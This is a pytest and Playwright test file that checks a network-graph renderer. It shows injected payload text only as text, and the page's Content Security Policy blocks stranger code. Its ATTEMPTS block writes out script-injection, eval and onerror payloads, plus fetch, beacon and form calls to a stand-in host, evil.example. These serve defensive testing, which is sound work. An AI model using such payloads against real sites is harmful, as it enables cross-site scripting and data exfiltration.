"""No text in the data runs, sends or breaks anything: it is shown (R8, case 96)."""

from dataclasses import replace

import pytest
from playwright.sync_api import expect

import agencygraph as ag
from tests.browser.graph import Graph
from tests.browser.payloads import PAYLOADS

HIDDEN = "\u2068\u2069"


def network(text, wave):
    """Every text that a network has is the payload."""
    people = [f"{text}{k}" for k in range(4)]
    groups = [text, text, f"{text}b", None]
    roster = ag.Roster.from_labels(
        people, groups, names=[f"{text}n{k}" for k in range(4)]
    )
    names = tuple(f"{agency}g" for agency in roster.agencies)
    roster = replace(roster, agency_attributes={"name": names, text: names})
    ties = [(0, 1), (1, 2), (2, 3), (3, 0)][: 3 + (wave == "2")]
    found = ag.Network.from_ties(
        roster, [people[i] for i, _ in ties], [people[j] for _, j in ties]
    )
    return found.replace(
        wave=text + wave,
        kind=text,
        answered=~roster.mask([people[3]]) if wave == "1" else None,
    )


def table(text, people):
    return ag.Table(
        "person",
        people,
        {text: [1.5, 2.5, float("nan"), 4.5], f"{text}_lower": [1, 2, 3, 4]},
        {text: f"Definition: {text}"},
        (f"Note: {text}",),
    )


def page_of(text):
    waves = network(text, "1"), network(text, "2")
    tables = tuple({text: table(text, wave.roster.people)} for wave in waves)
    return ag.draw(waves, title=text, tables=tables, size=text)


def shown(locator):
    return locator.evaluate("node => node.textContent").translate(
        {ord(mark): None for mark in HIDDEN}
    )


def use_everything(graph):
    """Do all that a reader can do, so that every text is put on the page."""
    for mode in (0, 1, 2):
        graph.part("modes").locator("label").nth(mode).click()
        for k in range(4) if mode == 2 else [mode]:
            at = graph.ask("g.engine.screenOf(x)", k)
            graph.page.mouse.move(at["x"], at["y"])
            graph.page.mouse.click(at["x"], at["y"])
            graph.settle()
    for label in graph.part("legend").locator("label").all():
        label.hover()
        label.click()
        label.click()
    graph.root.locator(".graph-notes summary").click()
    graph.part("panel").locator(".contact").first.hover()
    graph.part("size").select_option(index=0)
    graph.settle()


@pytest.mark.parametrize("text", PAYLOADS.values(), ids=PAYLOADS)
def test_a_payload_in_every_field_is_text_and_nothing_else(show, text):
    whole = text[:60] if len(text) < 100 else None  # longer names are cut for display
    graph = Graph(show(page_of(text)))

    use_everything(graph)
    graph.part("search").fill(text[:40])

    page = graph.page
    assert page.evaluate("() => window.__ran") is None
    assert page.evaluate("() => Object.prototype.hasOwnProperty('polluted')") is False
    assert page.url.startswith("file:")
    assert page.locator("a, img, iframe, form, object, embed, base, link").count() == 0
    expect(graph.part("found").get_by_role("button").first).to_be_visible()
    graph.part("search").press("Enter")
    if whole is not None:
        title = page.get_by_role("heading", level=1)
        heading = graph.part("panel").get_by_role("heading")
        assert shown(title) == text
        assert shown(heading).startswith(text)
        assert shown(graph.part("panel")).count(text) >= 4
        graph.ask("void g.select(0)")
        assert shown(heading).startswith(text)
        assert f"Definition: {text}" in shown(graph.part("panel"))
        assert f"Note: {text}" in shown(graph.root.locator(".graph-notes"))
        assert text + "1" in shown(graph.part("modes"))
        assert text in shown(graph.part("legend"))
        assert text.replace("_", " ") in shown(graph.part("size"))
    assert page.seen.nothing()


def test_there_are_payloads_for_every_way_in():
    assert len(PAYLOADS) >= 12
    assert sum("__ran" in text for text in PAYLOADS.values()) >= 12


ATTEMPTS = """async () => {
  const wait = () => new Promise((done) => setTimeout(done, 120));
  const add = (tag, values) => {
    document.body.append(Object.assign(document.createElement(tag), values));
  };
  const attempts = [
    () => add("script", { textContent: "window.__ran = 1" }),
    () => add("script", { src: "https://evil.example/s.js" }),
    () => add("script", { src: "data:text/javascript,window.__ran=1" }),
    () => { const box = document.createElement("div");
            box.innerHTML = '<img src=x onerror="window.__ran = 1">';
            document.body.append(box); },
    () => (0, eval)("window.__ran = 1"),
    () => new Function("window.__ran = 1")(),
    () => setTimeout("window.__ran = 1", 0),
    () => fetch("https://evil.example/f"),
    () => navigator.sendBeacon("https://evil.example/b", "x"),
    () => { const ask = new XMLHttpRequest();
            ask.open("GET", "https://evil.example/x"); ask.send(); },
    () => { new Image().src = "https://evil.example/i.png"; },
    () => add("style", { textContent: "body { background: url(//evil.example/c) }" }),
    () => add("link", { rel: "stylesheet", href: "https://evil.example/l.css" }),
    () => add("link", { rel: "prefetch", href: "https://evil.example/p" }),
    () => add("iframe", { src: "https://evil.example/frame" }),
    () => add("object", { data: "https://evil.example/o" }),
    () => add("video", { src: "https://evil.example/v" }),
    () => new Worker(URL.createObjectURL(new Blob(["1"]))),
    () => import("https://evil.example/m.js"),
    () => { const form = document.createElement("form");
            form.action = "https://evil.example/form"; form.target = "_blank";
            document.body.append(form); form.submit(); },
  ];
  let tried = 0;
  for (const attempt of attempts) {
    try { await attempt(); } catch (error) { /* blocked, as it should be */ }
    tried += 1;
    await wait();
  }
  return [tried, window.__ran ?? null];
}"""


def test_the_policy_stops_what_code_of_a_stranger_would_try(show):
    page = show(page_of("plain"), strict=False)

    tried, ran = page.evaluate(ATTEMPTS)

    assert tried == 20
    assert ran is None
    assert page.seen.requests == []
    blocked = [text for text in page.seen.messages if "Content Security Policy" in text]
    assert len(blocked) >= 12
